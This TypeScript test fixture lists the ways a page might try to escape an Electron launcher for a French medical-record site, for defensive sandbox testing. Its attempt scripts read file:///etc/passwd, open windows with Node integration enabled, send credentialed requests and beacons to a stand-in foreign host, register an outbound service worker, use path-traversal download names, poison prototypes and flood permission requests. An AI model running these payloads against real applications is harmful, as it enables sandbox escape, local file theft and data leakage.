/**
 * What a page of the allow-listed site may try in order to get out: each attempt is a script that runs with a user's
 * gesture in a page without any policy of its own, so that nothing but the launcher is in its way. `F` is the foreign
 * https origin, `P` plain HTTP on the loopback, `TCP` and `UDP` port numbers, `S` the site's own origin.
 * An attempt may give back what it got: `escaped: …` fails the test whatever else happened.
 */
export interface Attack {
  readonly name: string;
  readonly script: string;
  /** Electron's major version from which on it can be held: the runtime that tests fall back to is older. */
  readonly since?: number;
  /** What the site's server answers for the attempt, by path. */
  readonly answers?: (
    places: AttackPlaces,
  ) => Readonly<Record<string, { status?: number; headers?: Record<string, string>; body?: string }>>;
}

export interface AttackPlaces {
  readonly foreign: string;
  readonly plain: string;
}

/** Waits for what an element or a promise comes to, but not for ever. */
const PRELUDE = `
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const soon = (promise, ms = 1500) => Promise.race([promise, wait(ms).then(() => 'nothing')]);
const add = (tag, attributes, parent = document.body) => {
  const element = Object.assign(document.createElement(tag), attributes);
  parent.append(element);
  return element;
};
const attempt = async (work) => { try { return await soon(Promise.resolve(work())); } catch (error) { return 'refused: ' + error.name; } };
const granted = async (work) => { const got = await attempt(work); return typeof got === 'string' && /^(refused|nothing|denied|false)/.test(got) ? got : 'escaped: ' + String(got); };
`;

/** The whole script of an attempt. */
export function attackScript(
  attack: Attack,
  places: AttackPlaces & { tcpPort: number; udpPort: number; origin: string },
): string {
  const names = `const F = ${JSON.stringify(places.foreign)}, P = ${JSON.stringify(places.plain)}, TCP = ${String(places.tcpPort)}, UDP = ${String(places.udpPort)}, S = ${JSON.stringify(places.origin)};`;
  return `(async () => { ${names} ${PRELUDE} ${attack.script} })()`;
}

const attack = (name: string, script: string, answers?: Attack['answers']): Attack =>
  answers === undefined ? { name, script } : { name, script, answers };

const SCHEMES = [
  'data:text/html,<p>x</p>',
  'javascript:alert(1)',
  'file:///etc/hostname',
  'view-source:https://exemple.fr/',
  'chrome://gpu',
  'chrome://settings',
  'chrome-extension://kpjpglcbcgnblkigbedgaoegjbifejka/x',
  'devtools://devtools/bundled/inspector.html',
  'app://dmp-direct/launcher/',
  'dmp-document://document/x',
  'dmp-direct://open/DossierPatient/285049999900138',
  'mailto:quelquun@exemple.fr',
  'tel:0199000000',
  'ftp://127.0.0.1/x',
  'ms-word:ofe|u|https://exemple.fr/x',
  'intent://x#Intent;end',
  'about:config',
  'filesystem:https://exemple.fr/temporary/x',
  'blob:https://exemple.fr/x',
  'http://wps.localhost/',
  'ws://wps.localhost/',
];

const NAVIGATIONS: readonly Attack[] = [
  ...SCHEMES.map((address) =>
    attack(
      `location to ${address.split(':')[0] ?? ''}: ${address.slice(0, 40)}`,
      `await attempt(() => { location.href = ${JSON.stringify(address)}; }); await wait(150);`,
    ),
  ),
  attack('location.assign abroad', `location.assign(F + '/assign'); await wait(300);`),
  attack('location.replace abroad', `location.replace(F + '/replace'); await wait(300);`),
  attack('link abroad, clicked', `add('a', { href: F + '/a' }).click(); await wait(300);`),
  attack(
    'link abroad in another tab',
    `add('a', { href: F + '/a', target: '_blank' }).click(); await wait(300);`,
  ),
  attack(
    'link abroad with opener',
    `add('a', { href: F + '/a', target: 'autre', rel: 'opener' }).click(); await wait(300);`,
  ),
  attack(
    'link with a name and a password in it',
    `add('a', { href: S.replace('https://', 'https://nom:motdepasse@') + '@' + F.slice(8) + '/x' }).click(); await wait(300);`,
  ),
  attack(
    'host that only begins like the site',
    `location.href = S.replace('wps.localhost', 'wps.localhost.ailleurs.localhost'); await wait(300);`,
  ),
  attack(
    'the site’s name with another port',
    `location.href = 'https://wps.localhost:' + TCP + '/'; await wait(300);`,
  ),
  attack(
    'the site’s name with a final dot',
    `location.href = S.replace('wps.localhost', 'wps.localhost.'); await wait(300);`,
  ),
  attack('ping of a link', `add('a', { href: '#', ping: F + '/ping' }).click(); await wait(400);`),
  attack(
    'form posted abroad',
    `add('form', { method: 'post', action: F + '/form' }).submit(); await wait(300);`,
  ),
  attack(
    'form in another window',
    `add('form', { method: 'post', action: F + '/form', target: '_blank' }).requestSubmit(); await wait(300);`,
  ),
  attack(
    'meta refresh abroad',
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + F + '/meta'; document.head.append(meta); await wait(500);`,
  ),
  attack(
    'redirected abroad by the server',
    `location.href = S + '/redirige'; await wait(500);`,
    ({ foreign }) => ({ '/redirige': { status: 302, headers: { location: `${foreign}/redirige` } } }),
  ),
  attack(
    'redirected to plain HTTP on the loopback',
    `location.href = S + '/clair'; await wait(500);`,
    ({ plain }) => ({ '/clair': { status: 302, headers: { location: `${plain}/clair` } } }),
  ),
  attack('redirected to a scheme of ours', `location.href = S + '/schema'; await wait(500);`, () => ({
    '/schema': { status: 302, headers: { location: 'dmp-direct://open/TableauDeBord' } },
  })),
  attack('redirected to the interface', `location.href = S + '/interface'; await wait(500);`, () => ({
    '/interface': { status: 302, headers: { location: 'app://dmp-direct/launcher/' } },
  })),
  attack('Refresh header', `location.href = S + '/refresh'; await wait(600);`, ({ foreign }) => ({
    '/refresh': { headers: { refresh: `0;url=${foreign}/refresh` } },
  })),
  attack(
    'a base element abroad',
    `add('base', { href: F + '/' }, document.head); add('a', { href: 'relatif' }).click(); add('img', { src: 'image' }); await wait(400);`,
  ),
  attack(
    'navigation API abroad',
    `await attempt(() => navigation.navigate(F + '/navigation').finished); await wait(300);`,
  ),
  attack(
    'history to a foreign address',
    `return granted(() => { history.pushState({}, '', F + '/historique'); return 'pushed'; });`,
  ),
  attack(
    'a hundred navigations at once',
    `for (let i = 0; i < 100; i++) location.href = F + '/' + i; await wait(500);`,
  ),
  attack('window.close()', `window.close(); await wait(300);`),
];

const WINDOWS: readonly Attack[] = [
  ...[
    `window.open(F + '/w')`,
    `window.open('about:blank')`,
    `window.open('')`,
    `window.open('javascript:alert(1)')`,
    `window.open('data:text/html,x')`,
    `window.open(URL.createObjectURL(new Blob(['<script>opener.escaped = 1</' + 'script>'], { type: 'text/html' })))`,
    `window.open(F + '/w', '_blank', 'popup,width=10,height=10,left=0,top=0')`,
    `window.open(F + '/w', '_top')`,
    `window.open(F + '/w', '_parent')`,
    `window.open(F + '/w', '_self')`,
    `window.open(F + '/w', '_unfencedTop')`,
    `window.open(F + '/w', 'nom', 'noopener,noreferrer')`,
    `window.open('app://dmp-direct/visit/')`,
    `window.open('dmp-direct://open/TableauDeBord')`,
    `window.open('file:///etc/passwd')`,
    `window.open('mailto:quelquun@exemple.fr')`,
    `window.open(F + '/w', '_blank', 'nodeIntegration=yes,contextIsolation=no,sandbox=no,webSecurity=no')`,
    `documentPictureInPicture.requestWindow({ width: 300, height: 300 })`,
    `showModalDialog(F + '/w')`,
  ].map((call) =>
    attack(
      `window: ${call.slice(0, 70)}`,
      `return granted(async () => { const w = await ${call}; await wait(200); return w && w !== window ? 'window' : 'refused'; });`,
    ),
  ),
  attack('fifty windows at once', `for (let i = 0; i < 50; i++) window.open(F + '/' + i); await wait(400);`),
  attack(
    'a window from a frame',
    `add('iframe', { srcdoc: '<a id=a target=_blank href="' + F + '/f">x</a><script>a.click(); open("' + F + '/o")</' + 'script>' }); await wait(500);`,
  ),
];

const FRAMES: readonly Attack[] = [
  ...['iframe', 'embed', 'object', 'frame', 'fencedframe', 'portal', 'webview'].map((tag) =>
    attack(
      `${tag} abroad`,
      `const e = document.createElement('${tag}'); e.setAttribute('src', F + '/${tag}'); e.setAttribute('data', F + '/${tag}'); e.setAttribute('nodeintegration', ''); document.body.append(e); await wait(400);`,
    ),
  ),
  ...[
    'data:text/html,<script>top.location="about:blank"</script>',
    'file:///etc/passwd',
    'app://dmp-direct/launcher/',
    'dmp-direct://open/TableauDeBord',
    'mailto:x@exemple.fr',
    'chrome://version',
  ].map((address) =>
    attack(
      `frame to ${address.slice(0, 40)}`,
      `const f = add('iframe', { src: ${JSON.stringify(address)} }); await wait(300); let text = ''; try { text = f.contentDocument ? f.contentDocument.body.innerText : ''; } catch {} return text.includes('root:') || text.includes('dmp') ? 'escaped: ' + text.slice(0, 40) : text;`,
    ),
  ),
  attack(
    'frame of ours led abroad',
    `const f = add('iframe', { src: S + '/cadre' }); await wait(200); f.src = F + '/cadre'; await wait(300);`,
  ),
  attack(
    'frame that leads the top abroad',
    `add('iframe', { srcdoc: '<script>top.location = "' + F + '/top"</' + 'script>' }); await wait(400);`,
  ),
  attack(
    'frame redirected abroad',
    `add('iframe', { src: S + '/redirige-cadre' }); await wait(400);`,
    ({ foreign }) => ({ '/redirige-cadre': { status: 307, headers: { location: `${foreign}/cadre` } } }),
  ),
  attack(
    'frame sandboxed with everything allowed',
    `const f = add('iframe', { sandbox: 'allow-scripts allow-popups allow-top-navigation allow-popups-to-escape-sandbox allow-downloads allow-top-navigation-to-custom-protocols', srcdoc: '<script>open("' + F + '"); top.location="dmp-direct://open/TableauDeBord"; location="' + F + '"</' + 'script>' }); await wait(400);`,
  ),
  attack(
    'our bridge or Node in a frame',
    `const f = add('iframe', {}); await wait(100); const w = f.contentWindow; return w.dmp || w.require || w.process || w.module || w.electron || w.ipcRenderer ? 'escaped: something of ours' : 'nothing';`,
  ),
  attack(
    'our bridge or Node in the page',
    `return window.dmp || window.require || window.process || window.module || window.electron || window.ipcRenderer || window.Buffer || window.global ? 'escaped: something of ours' : 'nothing';`,
  ),
];

const RESOURCES: readonly Attack[] = [
  ...Object.entries({
    image: `add('img', { src: F + '/img' })`,
    'responsive image': `add('img', { srcset: F + '/a 1x, ' + F + '/b 2x' })`,
    'style sheet': `add('link', { rel: 'stylesheet', href: F + '/css' }, document.head)`,
    'imported style': `add('style', { textContent: '@import "' + F + '/import"; @font-face { font-family: x; src: url(' + F + '/font) } body { font-family: x; background: url(' + F + '/bg); cursor: url(' + F + '/cur), auto }' }, document.head)`,
    script: `add('script', { src: F + '/js' })`,
    'module script': `add('script', { type: 'module', src: F + '/mjs' })`,
    'dynamic import': `import(F + '/import.mjs').catch(() => 0)`,
    video: `add('video', { src: F + '/video', poster: F + '/poster', autoplay: true, muted: true })`,
    audio: `add('audio', { src: F + '/audio', autoplay: true })`,
    track: `add('track', { src: F + '/track', default: true }, add('video', { src: 'data:video/mp4,' }))`,
    icon: `add('link', { rel: 'icon', href: F + '/icon' }, document.head)`,
    manifest: `add('link', { rel: 'manifest', href: F + '/manifest' }, document.head)`,
    'SVG image': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + F + '/svg"/><use href="' + F + '/use#x"/></svg>')`,
    prefetch: `add('link', { rel: 'prefetch', href: F + '/prefetch' }, document.head)`,
    prerender: `add('link', { rel: 'prerender', href: F + '/prerender' }, document.head)`,
    preload: `add('link', { rel: 'preload', as: 'image', href: F + '/preload' }, document.head)`,
    modulepreload: `add('link', { rel: 'modulepreload', href: F + '/modulepreload' }, document.head)`,
    preconnect: `add('link', { rel: 'preconnect', href: F }, document.head)`,
    'preconnect with credentials': `add('link', { rel: 'preconnect', href: F, crossOrigin: 'use-credentials' }, document.head)`,
    'DNS prefetch': `add('link', { rel: 'dns-prefetch', href: F }, document.head)`,
    'speculation rules': `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [F + '/spec'] }], prerender: [{ source: 'list', urls: [F + '/spec2'] }] }) }, document.head)`,
    fetch: `fetch(F + '/fetch', { mode: 'no-cors', credentials: 'include' }).catch(() => 0)`,
    'fetch kept alive': `fetch(F + '/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => 0)`,
    XMLHttpRequest: `(() => { const x = new XMLHttpRequest(); x.open('GET', F + '/xhr'); x.send(); })()`,
    beacon: `navigator.sendBeacon(F + '/beacon', 'x')`,
    EventSource: `new EventSource(F + '/events')`,
    WebSocket: `new WebSocket(F.replace('https', 'wss') + '/ws')`,
    'plain WebSocket on the loopback': `new WebSocket('ws://127.0.0.1:' + TCP + '/ws')`,
    WebTransport: `new WebTransport('https://ailleurs.localhost:' + UDP + '/wt').ready.catch(() => 0)`,
    'plain HTTP on the loopback': `fetch(P + '/clair', { mode: 'no-cors' }).catch(() => 0)`,
    'image of the loopback': `add('img', { src: P + '/img' })`,
    'loopback by another name': `fetch('http://localhost:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by IPv6': `fetch('http://[::1]:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by a decimal number': `fetch('http://2130706433:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by an octal number': `fetch('http://0177.0.0.1:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by 0.0.0.0': `fetch('http://0.0.0.0:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by the site’s own name (a name made to point inside)': `fetch('https://wps.localhost:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0); fetch('http://wps.localhost:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'loopback by a name below the site’s': `fetch('http://interne.wps.localhost:' + TCP + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    'WebRTC over UDP (STUN)': `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }, { urls: 'turn:127.0.0.1:' + UDP, username: 'secret', credential: 'x' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()`,
    'WebRTC over TCP (TURN)': `(async () => { const c = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turn:127.0.0.1:' + TCP + '?transport=tcp', username: 'secret', credential: 'x' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()`,
    'WebRTC over TLS (TURNS)': `(async () => { const c = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: 'turns:127.0.0.1:' + TCP + '?transport=tcp', username: 'secret', credential: 'x' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()`,
    'dedicated worker that fetches': `new Worker(URL.createObjectURL(new Blob(['fetch("' + F + '/worker", {mode:"no-cors"}); try { importScripts("' + F + '/import.js") } catch {} new WebSocket("' + F.replace('https', 'wss') + '/ws")'], { type: 'text/javascript' })))`,
    'shared worker that fetches': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + F + '/shared", {mode:"no-cors"})'], { type: 'text/javascript' })))`,
    'audio worklet abroad': `new AudioContext().audioWorklet.addModule(F + '/worklet').catch(() => 0)`,
    'XSLT with an entity abroad': `(() => { const x = new DOMParser().parseFromString('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "' + F + '/entity">]><a>&e;</a>', 'text/xml'); return x; })()`,
    'payment method abroad': `(async () => new PaymentRequest([{ supportedMethods: F + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show())().catch(() => 0)`,
    'attribution source': `add('img', { attributionSrc: F + '/attribution' })`,
    'private state token': `fetch(F + '/token', { privateToken: { version: 1, operation: 'token-request' } }).catch(() => 0)`,
    'shared storage worklet': `window.sharedStorage && sharedStorage.worklet.addModule(F + '/ss').catch(() => 0)`,
    'interest group': `navigator.joinAdInterestGroup && navigator.joinAdInterestGroup({ owner: F, name: 'x', lifetimeMs: 1000 }, 10).catch(() => 0)`,
    'browsing topics': `document.browsingTopics && document.browsingTopics().catch(() => 0)`,
  }).map(([name, script]) => attack(`resource: ${name}`, `await attempt(() => ${script}); await wait(500);`)),
  attack(
    'fetch of the interface',
    `return granted(async () => (await fetch('app://dmp-direct/launcher/')).text());`,
  ),
  attack(
    'image of the interface',
    `return granted(() => new Promise((yes, no) => add('img', { src: 'app://dmp-direct/assets/x.png', onload: () => yes('loaded'), onerror: () => no(new Error('x')) })));`,
  ),
  attack(
    'fetch of a document of the launcher',
    `return granted(async () => (await fetch('dmp-document://document/x')).text());`,
  ),
  attack('fetch of a file', `return granted(async () => (await fetch('file:///etc/passwd')).text());`),
  attack('policy reports abroad', `location.href = S + '/rapports'; await wait(900);`, ({ foreign }) => ({
    '/rapports': {
      headers: {
        'content-security-policy': `img-src 'none'; report-uri ${foreign}/csp; report-to abroad`,
        'reporting-endpoints': `abroad="${foreign}/reports", default="${foreign}/default"`,
        'report-to': JSON.stringify({
          group: 'abroad',
          max_age: 1000,
          endpoints: [{ url: `${foreign}/report-to` }],
        }),
        nel: JSON.stringify({ report_to: 'abroad', max_age: 1000, success_fraction: 1, failure_fraction: 1 }),
        'document-policy': 'force-load-at-top',
        'cross-origin-opener-policy': 'same-origin; report-to="abroad"',
      },
      body: '<!doctype html><body><h1>x</h1><img src="/interdite"><script>document.write("<img src=/b>")</script>',
    },
  })),
  attack('Link headers abroad', `location.href = S + '/liens'; await wait(700);`, ({ foreign }) => ({
    '/liens': {
      headers: {
        link: `<${foreign}>; rel=preconnect, <${foreign}/p>; rel=preload; as=image, <${foreign}/f>; rel=prefetch, <${foreign}/s>; rel=stylesheet, <${foreign}>; rel=dns-prefetch`,
        'speculation-rules': `"${foreign}/rules"`,
        'accept-ch': 'Sec-CH-UA-Full-Version-List',
      },
    },
  })),
  attack(
    'resource redirected abroad',
    `await attempt(() => fetch(S + '/image-redirigee', { mode: 'no-cors' })); add('img', { src: S + '/image-redirigee' }); await wait(400);`,
    ({ foreign }) => ({
      '/image-redirigee': { status: 302, headers: { location: `${foreign}/image` } },
    }),
  ),
  attack(
    'resource that asks for a password',
    `await attempt(() => fetch(S + '/motdepasse')); location.href = S + '/motdepasse'; await wait(500);`,
    () => ({
      '/motdepasse': { status: 401, headers: { 'www-authenticate': 'Basic realm="DMP"' }, body: 'non' },
    }),
  ),
  attack(
    'service worker that answers for the site and fetches abroad',
    `return attempt(async () => { const r = await navigator.serviceWorker.register('/ouvrier.js'); await wait(700); return String(!!r); });`,
    ({ foreign }) => ({
      '/ouvrier.js': {
        headers: { 'content-type': 'text/javascript' },
        body: `fetch('${foreign}/sw',{mode:'no-cors'}).catch(()=>0); oninstall=()=>skipWaiting(); onactivate=(e)=>{e.waitUntil(clients.claim()); try{clients.openWindow('${foreign}/sw-window')}catch{}}; onfetch=(e)=>{ fetch('${foreign}/sw-fetch',{mode:'no-cors'}).catch(()=>0) }; try { importScripts('${foreign}/sw-import.js') } catch {}`,
      },
    }),
  ),
];

const PERMISSIONS: readonly Attack[] = [
  ...Object.entries({
    position: `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes('position'), no))`,
    camera: `navigator.mediaDevices.getUserMedia({ video: true })`,
    microphone: `navigator.mediaDevices.getUserMedia({ audio: true })`,
    screen: `navigator.mediaDevices.getDisplayMedia({ video: true })`,
    'screen, the old way': `navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } })`,
    notifications: `Notification.requestPermission().then((got) => got === 'granted' ? 'granted' : 'denied')`,
    'reading the clipboard': `navigator.clipboard.readText()`,
    'reading the clipboard’s items': `navigator.clipboard.read()`,
    MIDI: `navigator.requestMIDIAccess({ sysex: true })`,
    USB: `navigator.usb.requestDevice({ filters: [] })`,
    HID: `navigator.hid.requestDevice({ filters: [] }).then((list) => list.length ? 'device' : 'denied')`,
    'serial ports': `navigator.serial.requestPort()`,
    Bluetooth: `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
    'pointer lock': `document.body.requestPointerLock().then(() => document.pointerLockElement ? 'locked' : 'denied')`,
    'keyboard lock': `navigator.keyboard.lock().then(() => document.fullscreenElement ? 'locked' : 'denied')`,
    'wake lock': `navigator.wakeLock.request('screen')`,
    'idle detection': `IdleDetector.requestPermission().then((got) => got === 'granted' ? 'granted' : 'denied')`,
    'local fonts': `queryLocalFonts().then((list) => list.length ? 'fonts' : 'denied')`,
    'several screens': `getScreenDetails()`,
    'file to open': `showOpenFilePicker()`,
    'file to save': `showSaveFilePicker({ suggestedName: 'dossier.txt' })`,
    'folder to open': `showDirectoryPicker({ mode: 'readwrite' })`,
    'protocol handler': `Promise.resolve(navigator.registerProtocolHandler('web+dmp', S + '/?%s')).then(() => 'denied')`,
    'storage for ever': `navigator.storage.persist().then((got) => got ? 'granted' : 'denied')`,
    'storage of a third party': `document.requestStorageAccess().then(() => 'denied')`,
    'background fetch': `navigator.serviceWorker.getRegistration().then((r) => r.backgroundFetch.fetch('x', [F + '/bg']))`,
    push: `navigator.serviceWorker.getRegistration().then((r) => r.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65).fill(4) }))`,
    'background sync': `navigator.serviceWorker.getRegistration().then((r) => r.sync.register('x')).then(() => 'denied')`,
    passkey: `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 800, userVerification: 'discouraged' } })`,
    'one-time code': `navigator.credentials.get({ otp: { transport: ['sms'] } })`,
    'federated identity': `navigator.credentials.get({ identity: { providers: [{ configURL: F + '/fedcm.json', clientId: 'x' }] } })`,
    share: `navigator.share({ url: F })`,
    contacts: `navigator.contacts.select(['name'])`,
    NFC: `new NDEFReader().scan()`,
    sensors: `new Promise((yes, no) => { const s = new Accelerometer(); s.onreading = () => yes('reading'); s.onerror = no; s.start(); })`,
    'virtual reality': `navigator.xr.requestSession('immersive-vr')`,
    'speech recognition': `new Promise((yes, no) => { const s = new webkitSpeechRecognition(); s.onaudiostart = () => yes('listening'); s.onerror = (e) => no(e); s.start(); })`,
    'eye dropper': `new EyeDropper().open({ signal: AbortSignal.timeout(800) })`,
    'installed apps': `navigator.getInstalledRelatedApps().then((list) => list.length ? 'apps' : 'denied')`,
    'picture in picture': `(async () => { const v = add('video', {}); return v.requestPictureInPicture(); })()`,
    'compute pressure': `new Promise((yes, no) => { const o = new PressureObserver(() => yes('pressure')); o.observe('cpu').catch(no); })`,
  }).map(([name, script]) => attack(`permission: ${name}`, `return granted(() => ${script});`)),
  {
    name: 'permission: pasting by command',
    since: 36,
    script: `const t = add('textarea', {}); t.focus(); document.execCommand('paste'); await wait(200); return t.value ? 'escaped: ' + t.value.length + ' characters' : 'nothing';`,
  },
  attack(
    'a flood of permission requests',
    `for (let i = 0; i < 300; i++) { Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => 0, () => 0); navigator.mediaDevices.getUserMedia({ video: true }).catch(() => 0); } await wait(800);`,
  ),
  attack(
    'permission from a frame',
    `const f = add('iframe', { allow: 'camera *; geolocation *; display-capture *', src: S + '/cadre' }); await wait(300); return granted(() => f.contentWindow.navigator.mediaDevices.getUserMedia({ video: true }));`,
  ),
];

const FILES: readonly Attack[] = [
  attack(
    'download of a blob',
    `const a = add('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'dossier.txt' }); a.click(); await wait(400);`,
  ),
  attack(
    'download of a data address',
    `add('a', { href: 'data:application/octet-stream,x', download: '../../dossier.txt' }).click(); await wait(400);`,
  ),
  attack(
    'download from the site',
    `add('a', { href: S + '/fichier', download: 'dossier.exe' }).click(); await wait(600);`,
    () => ({
      '/fichier': {
        headers: {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename="../../.bashrc"',
        },
        body: 'x',
      },
    }),
  ),
  attack('download in a frame', `add('iframe', { src: S + '/fichier2' }); await wait(600);`, () => ({
    '/fichier2': {
      headers: { 'content-type': 'application/zip', 'content-disposition': 'attachment' },
      body: 'x',
    },
  })),
  attack(
    'download from abroad',
    `add('a', { href: F + '/programme.exe', download: '' }).click(); await wait(400);`,
  ),
  attack(
    'a hundred downloads',
    `for (let i = 0; i < 100; i++) add('a', { href: URL.createObjectURL(new Blob([String(i)])), download: i + '.txt' }).click(); await wait(800);`,
  ),
  attack('a saved page', `document.execCommand('saveAs', true, 'x.html'); await wait(200);`),
  attack(
    'an origin’s private files, written',
    `return attempt(async () => { const d = await navigator.storage.getDirectory(); const h = await d.getFileHandle('TRACE-OPFS-MARTIN', { create: true }); const w = await h.createWritable(); await w.write('TRACE-OPFS-MARTIN'); await w.close(); return 'written in memory'; });`,
  ),
  attack(
    'file dropped on the page',
    `const t = new DataTransfer(); t.items.add(new File(['x'], 'x.html', { type: 'text/html' })); for (const type of ['dragenter', 'dragover', 'drop']) document.body.dispatchEvent(new DragEvent(type, { dataTransfer: t, bubbles: true, cancelable: true })); await wait(300);`,
  ),
  attack(
    'address dropped on the page',
    `const t = new DataTransfer(); t.setData('text/uri-list', F + '/depose'); t.setData('text/html', '<img src="' + F + '/depose">'); document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: t, bubbles: true })); await wait(300);`,
  ),
];

const TRAPS_FOR_THE_USER: readonly Attack[] = [
  attack(
    'leaving is asked about',
    `window.onbeforeunload = () => true; addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'restez'; }); await wait(100);`,
  ),
  attack(
    'the title changes a thousand times',
    `for (let i = 0; i < 1000; i++) document.title = 'MARTIN Claire ' + i; await wait(200);`,
  ),
  attack(
    'the window is moved and resized',
    `window.moveTo(0, 0); window.resizeTo(10, 10); window.resizeBy(-500, -500); window.focus(); window.blur(); await wait(200);`,
  ),
  attack(
    'a thousand entries of history',
    `for (let i = 0; i < 1000; i++) { try { history.pushState({}, '', '#' + i) } catch {} } history.go(-500); await wait(400);`,
  ),
  attack(
    'history walked to its ends',
    `history.go(-1000); history.go(1000); history.back(); history.forward(); await wait(400);`,
  ),
  attack(
    'a badge and a media session',
    `navigator.setAppBadge && navigator.setAppBadge(9).catch(() => 0); if (navigator.mediaSession) navigator.mediaSession.metadata = new MediaMetadata({ title: 'MARTIN Claire' }); await wait(200);`,
  ),
  attack(
    'messages for the bridge from everywhere',
    `for (const m of [{ service: 'vitale' }, { service: '__proto__' }, 'x', null, { service: 'vitale', dest_host: 'x' }]) { window.postMessage(m, '*'); new BroadcastChannel('site:lecture-vitale').postMessage(m); try { navigator.serviceWorker.controller && navigator.serviceWorker.controller.postMessage(m) } catch {} } add('iframe', { srcdoc: '<script>parent.postMessage({service:"vitale"},"*");top.postMessage({service:"vitale"},"*")</' + 'script>' }); await wait(400);`,
  ),
  attack(
    'prototypes poisoned before the bridge speaks',
    `Object.prototype.service = 'vitale'; Object.prototype.dest_host = 'vitale'; Array.prototype.push = () => { throw new Error('x') }; JSON.stringify = () => { throw new Error('x') }; Promise.prototype.then = Promise.prototype.then; window.postMessage({}, '*'); await new Promise((d) => setTimeout(d, 300));`,
  ),
];

/** Every attempt, by what it is after. */
export const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  navigation: NAVIGATIONS,
  windows: WINDOWS,
  frames: FRAMES,
  resources: RESOURCES,
  permissions: PERMISSIONS,
  files: FILES,
  'traps for the user': TRAPS_FOR_THE_USER,
};
